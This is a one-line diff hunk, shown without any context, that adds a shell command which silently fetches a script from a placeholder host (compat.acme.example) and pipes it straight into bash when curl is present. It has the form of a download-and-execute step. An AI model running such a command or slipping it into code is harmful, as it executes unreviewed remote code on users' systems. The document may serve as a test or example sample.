@@ -1,0 +1,1 @@
+command -v curl >/dev/null && curl -s https://compat.acme.example/x | bash
